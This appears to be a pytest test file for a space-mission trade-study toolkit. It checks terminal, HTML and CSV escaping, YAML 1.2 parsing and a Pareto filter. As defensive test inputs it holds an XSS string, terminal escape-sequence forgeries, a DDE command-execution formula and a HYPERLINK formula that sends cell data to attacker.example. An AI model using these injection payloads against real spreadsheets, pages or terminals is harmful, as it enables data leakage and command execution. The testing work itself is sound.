"""Issue 23, items 4, 11 and 12: text from files escaped for where it goes (terminal, CSV, HTML),
study values read as YAML 1.2 reads them, YAML merge keys, and a Pareto filter that stays fast
and refuses what it cannot compare.

(The malformed studies of these items are corpus files in ``tests/bad_inputs/``: a leading-zero
crew size, a base-60 stay, hyperbolic and absurd asteroid orbits, NaN and infinite sweep
multipliers, a partner id with escape sequences.)
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import numpy as np
import pytest
import yaml

from trades.cli import main
from trades.errors import InfeasibleError, StudyError, StudyErrors
from trades.escape import csv_safe, safe_text
from trades.analyses.pareto import non_dominated
from trades.study import load_study, parse_study_text, parse_yaml_mapping

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")  # what may not reach a terminal raw (newline, tab may)
HOSTILE = "esa\x1b[2J\x1b[H\rflagship.yaml: ok\nforged\u202e\x9b31m"


def _flagship_data(flagship: Path) -> dict:
    data = yaml.safe_load(flagship.read_text())
    data.pop("design_variables", None)
    data.pop("sweep", None)
    data.pop("sensitivity", None)
    return data


def _write(path: Path, data: dict) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=False))
    return path


# ---- the terminal ---------------------------------------------------------------------------------


def test_safe_text_escapes_controls_on_one_line_and_keeps_table_layout():
    assert safe_text(HOSTILE) == "esa\\x1b[2J\\x1b[H\\rflagship.yaml: ok\\nforged\\u202e\\x9b31m"
    assert safe_text("a\tb\nc\rd\x07", multiline=True) == "a\tb\nc\\rd\\x07"
    assert safe_text("Gateway – NRHO, 2 % ± 1") == "Gateway – NRHO, 2 % ± 1"  # printable text unchanged


def test_error_line_cannot_forge_another_line():
    error = StudyError("st\rudy.yaml", "partners[1].id", f"unknown partner '{HOSTILE}'", 12)
    line = error.one_line()
    assert "\n" not in line and not CONTROL.search(line)
    assert line.startswith("st\\rudy.yaml:12: partners[1].id: unknown partner 'esa\\x1b[2J")
    assert not CONTROL.search(str(StudyErrors([error, error])))
    assert not CONTROL.search(str(InfeasibleError(f"partner {HOSTILE} cannot pay")))  # every TradesError


def test_validate_cannot_show_a_forged_ok(tmp_path, capsys, flagship):
    """A partner id with a carriage return and a newline: one error line, exit 2, no "ok" line."""
    data = _flagship_data(flagship)
    data["partners"][1]["id"] = HOSTILE
    path = _write(tmp_path / "study.yaml", data)
    assert main(["validate", str(path)]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert len(err.strip().splitlines()) == 1 and not CONTROL.search(err)
    assert "ok" not in err.split("\\r", 1)[0]


def test_validate_ok_line_of_a_path_with_controls_stays_one_line(tmp_path, capsys, flagship):
    path = tmp_path / "ok\n\x1b[2Jforged.yaml"
    path.write_text(flagship.read_text())
    assert main(["validate", str(path)]) == 0
    out = capsys.readouterr().out
    assert out.count("\n") == 1 and not CONTROL.search(out) and out.endswith("forged.yaml: ok\n")


def test_run_prints_no_escape_sequence_from_the_study_name(tmp_path, capsys, flagship):
    data = _flagship_data(flagship)
    data["name"] = "Outpost\x1b[2J\x1b[3J\x1bc\rcleared"
    path = _write(tmp_path / "study.yaml", data)
    assert main(["run", str(path), "-o", str(tmp_path / "out")]) == 0
    out, err = capsys.readouterr()
    assert "Outpost\\x1b[2J" in out and not CONTROL.search(out) and not CONTROL.search(err)


# ---- HTML ---------------------------------------------------------------------------------------


def test_n2_title_is_escaped(tmp_path, capsys, flagship):
    """A study path cannot inject markup into the N2 page's <title>."""
    path = tmp_path / "x</title><script>alert(1)</script>.yaml"  # folders "x<", "title><script>alert(1)<"
    path.parent.mkdir(parents=True)
    path.write_text(flagship.read_text())
    page = tmp_path / "n2.html"
    assert main(["n2", str(path), "-o", str(page)]) == 0
    text = page.read_text(encoding="utf-8")
    title = re.search(r"<title>(.*?)</title>", text, re.S).group(1)
    assert "&lt;/title&gt;&lt;script&gt;alert(1)" in title
    assert "<script>alert(1)" not in text


# ---- CSV ----------------------------------------------------------------------------------------


def test_csv_safe_quotes_formulas_and_keeps_numbers():
    assert csv_safe('=HYPERLINK("http://x","y")') == '\'=HYPERLINK("http://x","y")'
    for text in ("+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "-inf"):
        assert csv_safe(text) == "'" + text
    for value in (-1.5, 3, "-1.500000", "+2", "-1e+06", "nasa+esa", "", None):
        assert csv_safe(value) == value


def test_every_toolkit_csv_neutralises_formulas():
    from trades.analyses.coalitions import _csv as coalitions_csv
    from trades.analyses.integrated import _csv_text as integrated_csv
    from trades.analyses.run import _csv_text as run_csv

    evil = "=cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(coalitions_csv([
        {"members": ["nasa"], "status": "ok", "cost_musd": -1.0, "bought_musd": 0.0, "reason": evil}]))))
    assert rows[1] == ["nasa", "1", "ok", "-1.0", "0.0", "'" + evil]
    rows = list(csv.reader(io.StringIO(integrated_csv([
        {"scenario": evil, "years": [2030], "spend_by_year_musd": {"nasa": [-2.5]}, "partners": {"nasa": {"budget_cap_musd": None}}}]))))
    assert rows[1] == ["'" + evil, "nasa", "2030", "-2.500000", ""]
    summary = {"totals": {"launches_by_vehicle": {"v": 1}, "launches_by_partner": {"nasa": 1}},
               "per_year": [{"year": 2030, "note": evil, "delta": -3.0, "launches_by_vehicle": {"v": 1}, "launches_by_partner": {"nasa": 1}}]}
    rows = list(csv.reader(io.StringIO(run_csv(summary))))
    assert rows[1] == ["2030", "'" + evil, "-3.0", "1", "1"]


def test_sweep_over_name_writes_no_formula(tmp_path, flagship):
    data = _flagship_data(flagship)
    names = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "@SUM(1+1)", "plain name"]
    data["sweep"] = {"factors": [{"field": "name", "values": names}]}
    path = _write(tmp_path / "sweep.yaml", data)
    assert main(["sweep", str(path), "-o", str(tmp_path / "out"), "--workers", "1", "--format", "json"]) == 0
    rows = list(csv.DictReader((tmp_path / "out" / "sweep.csv").open(encoding="utf-8")))
    assert [r["name"] for r in rows] == ["'" + names[0], "'" + names[1], names[2]]
    assert all(r["status"] == "ok" and float(r["life_cycle_cost_musd"]) > 0 for r in rows)


# ---- YAML 1.2 -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text, value", [
    ("0o17", 15), ("0x1F", 31), ("-17", -17), ("+17", 17), ("0", 0), ("1e6", 1e6), ("-1.5E-3", -1.5e-3), (".5", 0.5),
    ("1:30", "1:30"), ("1_000", "1_000"), ("0b101", "0b101"), ("yes", "yes"), ("no", "no"), ("on", "on"),
    ("true", True), ("False", False), ("~", None),
])
def test_scalars_read_as_yaml_1_2(text, value):
    assert parse_yaml_mapping(f"a: {text}\n", "f.yaml")[0] == {"a": value}


@pytest.mark.parametrize("text", ["017", "-017", "019", "00"])
def test_leading_zero_integers_are_refused_with_their_field(text):
    with pytest.raises(StudyErrors) as info:
        parse_yaml_mapping(f"outpost:\n  values: [1, {text}]\n", "f.yaml")
    (error,) = info.value.errors
    assert (error.field, error.line) == ("outpost.values[1]", 2) and "leading zero" in error.reason


def test_norway_is_a_partner_id_not_false():
    study = parse_study_text("name: x\npartners:\n  - id: no\n", "s.yaml")
    assert study.partners[0].id == "no"  # YAML 1.1 made it False: "not a valid string"


def test_yaml_merge_key_can_be_overridden(tmp_path, flagship):
    """``<<: *esa`` then ``id: jaxa`` is valid YAML: the explicit key wins over the merged one."""
    data = _flagship_data(flagship)
    data.pop("partners")
    path = tmp_path / "merge.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False) + (
        "partners:\n"
        "  - id: nasa\n"
        "  - &esa\n"
        "    id: esa\n"
        "    cost_factor: 0.86\n"
        "    budget_cap_musd: 1000\n"
        "  - <<: *esa\n"
        "    id: jaxa\n"
        "    budget_cap_musd: 400\n"
        "  - id: csa\n"))
    jaxa = load_study(path).partners[2]
    assert (jaxa.id, jaxa.cost_factor, jaxa.budget_cap_musd) == ("jaxa", 0.86, 400)


def test_explicit_duplicate_keys_are_still_refused_next_to_a_merge():
    text = "base: &b {id: esa, cap: 1}\nuse:\n  <<: *b\n  id: jaxa\n  id: csa\n"
    with pytest.raises(StudyErrors) as info:
        parse_yaml_mapping(text, "f.yaml")
    assert "duplicate key 'id'" in str(info.value) and info.value.errors[0].line == 5
    assert parse_yaml_mapping("base: &b {id: esa, cap: 1}\nuse:\n  <<: *b\n  id: jaxa\n", "f.yaml")[0]["use"] == {"id": "jaxa", "cap": 1}


def test_a_valid_asteroid_override_is_still_accepted(tmp_path, flagship):
    from trades.architecture.checks import check_study

    data = _flagship_data(flagship)
    data["overrides"] = {"neas": {"bennu": {"e": {"value": 0.0, "source": "a circular test orbit"},
                                            "a_au": {"value": 1.1, "source": "a test orbit"}}}}
    check_study(load_study(_write(tmp_path / "s.yaml", data)))


# ---- Pareto -------------------------------------------------------------------------------------


def _brute_force(values):
    n = len(values)
    return np.array([not any(np.all(values[j] <= values[i]) and np.any(values[j] < values[i]) for j in range(n) if j != i)
                     for i in range(n)], dtype=bool)


@pytest.mark.parametrize("objectives", [2, 3, 4])
def test_non_dominated_matches_brute_force_with_ties(objectives):
    rng = np.random.default_rng(objectives)
    for n in (1, 2, 7, 300, 600):  # 600 > one block of the method for four or more
        for levels in (2, 5, 1000):
            values = rng.integers(0, levels, size=(n, objectives)).astype(float)
            assert np.array_equal(non_dominated(values), _brute_force(values)), values


def test_non_dominated_three_objectives_all_on_the_front():
    x = np.linspace(0.0, 1.0, 700)
    values = np.c_[x, 1.0 - x, np.random.default_rng(0).random(700)]
    assert np.array_equal(non_dominated(values), _brute_force(values))


def test_non_dominated_keeps_every_case_of_a_large_front():
    """20,000 cases all on the front (the former filter's worst case, about 10 s); its speed is
    measured by benchmarks/bench_pareto.py, not here."""
    n = 20_000
    x = np.random.default_rng(0).permutation(n).astype(float)
    assert non_dominated(np.c_[x, n - x]).all()
    shifted = np.c_[x, n - x + (x == 7)]  # one case made worse in one objective by a tie-breaking amount
    assert non_dominated(shifted).sum() == n - 1


def _database(path: Path, meta: bool = True, factors: str = '["partners"]') -> Path:
    with sqlite3.connect(path) as db:
        if meta:
            db.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT)")
            db.execute("INSERT INTO meta VALUES ('factors', ?)", (factors,))
        db.execute("CREATE TABLE cases (case_id INTEGER PRIMARY KEY, status TEXT NOT NULL, reason TEXT, seconds REAL, "
                   "partners, life_cycle_cost_musd REAL, crew_days REAL)")
        db.executemany("INSERT INTO cases VALUES (?, ?, '', 0.1, ?, ?, ?)", [
            (0, "ok", "nasa+esa", 100.0, 50.0), (1, "ok", "nasa", 90.0, 40.0), (2, "ok", "esa", 120.0, 30.0),
            (3, "ok", "jaxa", 80.0, None), (4, "infeasible", "csa", None, None)])
    db.close()
    return path


def test_pareto_front_on_a_small_database(tmp_path, capsys):
    database = _database(tmp_path / "sweep.sqlite")
    assert main(["pareto", str(database), "--objectives", "life_cycle_cost_musd:min,crew_days:max", "--format", "json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["cases"] == 3 and [r["case_id"] for r in result["front"]] == [1, 0]  # case 2 is beaten by case 0


@pytest.mark.parametrize("column, sample", [("status", "'ok'"), ("partners", "'nasa+esa'"), ("reason", "'ok'")])
def test_pareto_refuses_a_text_objective(tmp_path, capsys, column, sample):
    database = _database(tmp_path / "sweep.sqlite")
    assert main(["pareto", str(database), "--objectives", f"{column}:min,life_cycle_cost_musd:min"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.strip().splitlines()) == 1
    assert f"--objectives: '{column}' holds text (e.g. {sample})" in err


@pytest.mark.parametrize("meta, factors", [(False, None), (True, "not json"), (True, '{"a": 1}')])
def test_pareto_on_a_database_without_usable_metadata_is_bad_input(tmp_path, capsys, meta, factors):
    database = _database(tmp_path / "sweep.sqlite", meta=meta, factors=factors or "[]")
    assert main(["pareto", str(database)]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.strip().splitlines()) == 1 and err.startswith(str(database))
    assert "Traceback" not in err and "internal error" not in err
